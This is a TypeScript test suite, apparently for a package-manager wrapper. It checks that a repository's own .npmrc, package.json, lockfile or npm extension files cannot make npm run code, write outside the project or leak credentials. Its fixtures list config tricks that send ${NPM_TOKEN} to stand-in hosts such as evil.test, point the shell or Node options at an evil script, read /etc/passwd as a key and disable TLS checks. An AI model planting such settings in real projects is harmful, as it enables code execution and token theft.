import assert from 'node:assert/strict';
import fs from 'node:fs';
import { startRegistry, type Registry } from '../registry/registry.ts';
import { install, never, useEngines, useHermeticProcess } from '../support/engine.ts';
import { useManager } from '../support/manager-suite.ts';
import { driverContextOf, locatorOf, testManagers } from '../support/managers.ts';
import { tempFolder, useTempProjects, type FileBody, type TempProject } from '../support/temp-project.ts';
import { publicToken } from '../support/public-registry.ts';

/** What a repository may write into its own files to make npm do more than install. `{out}` is a folder outside of it. */
interface Trick {
  readonly what: string;
  readonly npmrc?: string;
  readonly files?: Readonly<Record<string, FileBody>>;
  /** The error with which it is refused; undefined: it is without effect. */
  readonly code?: string;
}

const evil = 'require("node:fs").writeFileSync(require("node:path").join(process.env.OUT, "ran"), "")';
const scripts = { preinstall: 'node evil.js', postinstall: 'node evil.js', prepare: 'node evil.js' };

/** What npm since 12 runs for each package that it reads (npm documentation: npm-extension). */
const transform = `${evil};exports.transformManifest = (found) => found;\n`;
const extendedLockfile = {
  name: 'app',
  lockfileVersion: 4,
  packages: { '': { name: 'app', npmExtensionHash: 'sha512-x' } },
};

const patch = `diff --git a/index.js b/index.js
index 0000001..0000002 100644
--- a/index.js
+++ b/index.js
@@ -1 +1 @@
-module.exports = "fx-tiny@1.2.0";
+module.exports = "patched";
`;

const tricks: readonly Trick[] = [
  { what: 'turns scripts on', npmrc: 'ignore-scripts=false\n', files: { 'package.json': { name: 'app', scripts } } },
  { what: 'allows the scripts of a package', npmrc: 'allow-scripts=fx-script\n' },
  {
    what: 'allows the scripts of a package in its manifest',
    files: { 'package.json': { name: 'app', allowScripts: { 'fx-script': true } } },
  },
  { what: 'names a program as git', npmrc: 'git={app}/evil.sh\n' },
  { what: 'names a shell', npmrc: 'script-shell={app}/evil.sh\nshell={app}/evil.sh\n' },
  { what: 'names options of Node', npmrc: 'node-options=--require={app}/evil.js\n' },
  {
    what: 'names a viewer and an editor',
    npmrc: 'viewer={app}/evil.sh\neditor={app}/evil.sh\nbrowser={app}/evil.sh\n',
  },
  { what: 'moves the cache out', npmrc: 'cache={out}/cache\n', code: 'QM_PROJECT_HOOKS' },
  { what: 'moves the logs out', npmrc: 'logs-dir={out}/logs\n', code: 'QM_PROJECT_HOOKS' },
  {
    what: 'moves the cache out by a name with a comment in it',
    npmrc: 'cache#={out}/cache\n',
    code: 'QM_PROJECT_HOOKS',
  },
  { what: 'moves the cache out by a name in quotes', npmrc: `'"cache"'={out}/cache\n`, code: 'QM_PROJECT_HOOKS' },
  {
    what: 'names a patch elsewhere',
    files: { 'package.json': { name: 'app', patchedDependencies: { 'fx-tiny': '../x.patch' } } },
    code: 'QM_PROJECT_HOOKS',
  },
  { what: 'keeps the cache inside', npmrc: 'cache=.cache/npm\nlogs-dir = ".cache/logs"\n' },
  {
    what: 'moves the prefix, below which npm looks for settings of its own',
    npmrc: 'prefix={app}/prefix\n',
    files: { 'prefix/etc/npmrc': 'logs-dir={out}/more\n' },
    code: 'QM_PROJECT_HOOKS',
  },
  { what: 'makes it global', npmrc: 'global=true\nlocation=global\n' },
  {
    what: 'names another file of settings',
    npmrc: 'userconfig={app}/more\nglobalconfig={app}/more\n',
    files: { more: 'logs-dir={out}/more\n' },
    code: 'QM_PROJECT_HOOKS',
  },
  {
    what: 'sends a variable to a host of its own',
    npmrc: '//127.0.0.1:9/:_authToken=${MY_SECRET}\n',
    code: 'QM_PROJECT_HOOKS',
  },
  {
    what: 'names files that no install reads',
    npmrc:
      'init-module={app}/evil.js\ninit.module={app}/evil.js\nnode-gyp={app}/evil.js\nedit-dir={out}/edit\n' +
      'provenance-file={out}/provenance\nglobal-ignore-file={out}/ignore\npack-destination={out}/packed\n' +
      'patches-dir={out}/patches\ntmp={out}/tmp\n',
  },
  {
    what: 'brings code that changes what npm reads of packages',
    files: { '.npm-extension.cjs': transform },
    code: 'QM_PROJECT_HOOKS',
  },
  {
    what: 'brings such code as a module',
    files: { '.npm-extension.mjs': 'export const transformManifest = (found) => found;\n' },
    code: 'QM_PROJECT_HOOKS',
  },
  {
    what: 'names such code',
    npmrc: 'extension-file=hook.cjs\nignore-extension=false\n',
    files: { 'hook.cjs': transform },
    code: 'QM_PROJECT_HOOKS',
  },
  {
    what: 'has a lockfile that such code had a part in',
    files: { 'package-lock.json': extendedLockfile },
    code: 'QM_PROJECT_HOOKS',
  },
  { what: 'has a proxy', npmrc: 'https-proxy=http://127.0.0.1:9/\n', code: 'QM_PROJECT_HOOKS' },
  { what: 'has a proxy for everything', npmrc: 'proxy=http://127.0.0.1:9/\n', code: 'QM_PROJECT_HOOKS' },
  { what: 'takes the proxy away for a host', npmrc: 'noproxy=evil.test\n', code: 'QM_PROJECT_HOOKS' },
  { what: 'takes it away by a list', npmrc: 'noproxy[]=evil.test\n', code: 'QM_PROJECT_HOOKS' },
  { what: 'takes it away by a switch', npmrc: 'no-proxy=evil.test\n', code: 'QM_PROJECT_HOOKS' },
  { what: 'takes no proxy away', npmrc: 'noproxy=\n' },
  { what: 'chooses the way out of the machine', npmrc: 'local-address=127.0.0.1\n', code: 'QM_PROJECT_HOOKS' },
  { what: 'trusts every certificate', npmrc: 'strict-ssl=false\n', code: 'QM_PROJECT_HOOKS' },
  { what: 'brings an authority', npmrc: 'ca="-----BEGIN CERTIFICATE-----"\n', code: 'QM_PROJECT_HOOKS' },
  { what: 'brings authorities', npmrc: 'ca[]="-----BEGIN CERTIFICATE-----"\n', code: 'QM_PROJECT_HOOKS' },
  { what: 'names a file of authorities', npmrc: 'cafile=/etc/passwd\n', code: 'QM_PROJECT_HOOKS' },
  { what: 'signs in by a certificate', npmrc: 'cert=x\n', code: 'QM_PROJECT_HOOKS' },
  { what: 'signs in by a key', npmrc: 'key=x\n', code: 'QM_PROJECT_HOOKS' },
  {
    what: 'signs in to a host of its own by files of the user',
    npmrc: '//evil.test/:certfile=${HOME}/.ssl/cert.pem\n//evil.test/:keyfile=/etc/passwd\n',
    code: 'QM_PROJECT_HOOKS',
  },
  {
    what: 'names a token by its usual variable, for a host of its own',
    npmrc: '//127.0.0.1:9/:_authToken=${NPM_TOKEN}\n',
    code: 'QM_PROJECT_HOOKS',
  },
  {
    what: 'names a registry with such a variable in its path',
    npmrc: '@corp:registry=http://127.0.0.1:9/${NPM_TOKEN}/\n',
    code: 'QM_PROJECT_HOOKS',
  },
  {
    what: 'names a registry with such a variable in its host',
    npmrc: '@corp:registry=http://${NPM_TOKEN}.evil.test/\n',
    code: 'QM_PROJECT_HOOKS',
  },
  { what: 'names a token for the public registry', npmrc: `${publicToken}\n` },
  { what: 'chooses other workspaces', npmrc: 'workspaces=true\nworkspace=elsewhere\n', code: 'QM_MANAGER_FAILED' },
  { what: 'saves nothing', npmrc: 'save=false\nno-save=true\n' },
  { what: 'forces', npmrc: 'force=true\n' },
  { what: 'installs links', npmrc: 'install-links=true\ninstall-strategy=linked\n' },
];

for (const manager of testManagers().filter(({ id }) => id === 'npm')) {
  describe(`a repository that tricks ${manager.label}`, () => {
    const makeProject = useTempProjects();
    const start = useEngines();
    useHermeticProcess();
    let registry: Registry;
    before(async () => {
      registry = await startRegistry();
    });
    after(() => registry.stop());

    function project({ npmrc = '', files = {} }: Trick, out: string): TempProject {
      const app = makeProject({ files: { 'package.json': { name: 'app', private: true }, 'evil.js': evil } });
      app.write('evil.sh', `#!/bin/sh\ntouch "${out}/ran"\nexec sh "$@"\n`);
      fs.chmodSync(app.path('evil.sh'), 0o755);
      const filled = (text: string): string => text.replaceAll('{app}', app.folder).replaceAll('{out}', out);
      app.write('.npmrc', filled(`registry=${registry.url}/\n${npmrc}`));
      for (const [name, body] of Object.entries(files)) app.write(name, typeof body === 'string' ? filled(body) : body);
      return app;
    }

    for (const trick of tricks) {
      it(`${trick.code === undefined ? 'gains nothing' : `is told ${trick.code}`} where it ${trick.what}`, async () => {
        const out = tempFolder('out-');
        process.env['OUT'] = out;
        const app = project(trick, out);
        const operation = await install(await start(app, { tools: locatorOf(manager) }), 'fx-script');
        assert.deepEqual(fs.readdirSync(out), [], 'nothing was run, and nothing written outside');
        assert.equal(operation.error?.code, trick.code, `${operation.error?.message}\n${operation.error?.details}`);
        assert.equal(app.exists('node_modules/fx-script/index.js'), trick.code === undefined);
        assert.equal(app.exists('node_modules/fx-script/postinstall-ran.txt'), false);
      });
    }

    it('runs no code of its own where a package is built', async () => {
      const out = tempFolder('out-');
      process.env['OUT'] = out;
      const app = project({ what: '' }, out);
      assert.equal((await install(await start(app, { tools: locatorOf(manager) }), 'fx-script')).status, 'succeeded');
      app.write('.npm-extension.cjs', transform);
      app.write('.npmrc', `${app.read('.npmrc')}ignore-extension=false\n`);
      // Without npm's notes of the tree it looks at every package itself, and hands each to that code.
      app.delete('node_modules/.package-lock.json');
      const place = 'node_modules/fx-script';
      const built = { name: 'fx-script', version: '1.0.0', place, scripts: [], integrity: undefined };
      await manager.driver.rebuild?.(driverContextOf(manager.tool, app.folder), built, never);
      assert.deepEqual([app.exists(`${place}/postinstall-ran.txt`), fs.readdirSync(out)], [true, []]);
    });
  });
}

describe('a repository with a patch for npm-12', () => {
  const { project, open } = useManager('npm-12');

  it('has it applied to what is installed', async () => {
    const manifest = { name: 'app', private: true, patchedDependencies: { 'fx-tiny@1.2.0': 'patches/x.patch' } };
    const app = project({ 'package.json': manifest, 'patches/x.patch': patch });
    const operation = await install(await open(app), 'fx-tiny@1.2.0');
    assert.equal(operation.status, 'succeeded', JSON.stringify(operation.error));
    assert.match(app.read('node_modules/fx-tiny/index.js'), /patched/);
  });
});
